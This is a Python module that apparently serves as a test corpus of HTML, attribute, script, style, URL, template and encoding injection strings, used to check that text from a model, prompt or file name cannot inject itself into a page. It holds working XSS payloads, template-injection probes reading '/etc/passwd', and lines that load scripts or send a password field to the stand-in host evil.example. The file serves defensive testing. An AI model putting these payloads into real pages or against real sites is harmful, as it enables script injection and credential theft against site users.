"""Texts by which a model, a prompt, a file name could try to become part of a page.

By where each would have to stand to do something: among elements, in an attribute, in a script, in
a style, in an address, in SVG, in a template. What stands for success is ``alert(1)``.
"""

from __future__ import annotations

ELEMENTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mtext></p><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=token type=password></form>",
    "<button formaction=//evil.example>ok</button>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href='javascript:alert(1)'>a link</a>",
    "<template><script>alert(1)</script></template>",
    "<dialog open onclose=alert(1)><form method=dialog><button autofocus>",
    "<portal src=//evil.example>",
    "<x style='animation-name:spin' onanimationstart=alert(1)>",
)
BREAKING_OUT = (
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "</code></p></div><script>alert(1)</script>",
    "</svg><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</ins></del><script>alert(1)</script>",
    "<!-- <p>",
    "<![CDATA[ <p>",
    "<",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
)
ATTRIBUTES = (
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "x onmouseover=alert(1) y",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "` onmouseover=alert(1) `",
    '" style="background:url(\'//evil.example\')" x="',
    '" data-open="help" data-key="j" data-live="',
    '" autofocus tabindex=1 onfocus=alert(1) "',
)
SCRIPTS_STYLES_ADDRESSES = (
    "';alert(1);//",
    '";alert(1);//',
    "${alert(1)}",
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example",
    "expression(alert(1))",
    "}body{background:url(//evil.example)}",
    "</style><script>alert(1)</script>",
    "@import '//evil.example/x.css';",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "\u202e</tpircs>(1)trela<tpircs>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\x1b]8;;//evil.example\x07a link\x1b]8;;\x07",
    "<a\nhref\n=\n'javascript:alert(1)'>",
    "[a link](javascript:alert(1)) ![](//evil.example/x.png)",
)
CORPUS = (*ELEMENTS, *BREAKING_OUT, *ATTRIBUTES, *SCRIPTS_STYLES_ADDRESSES)
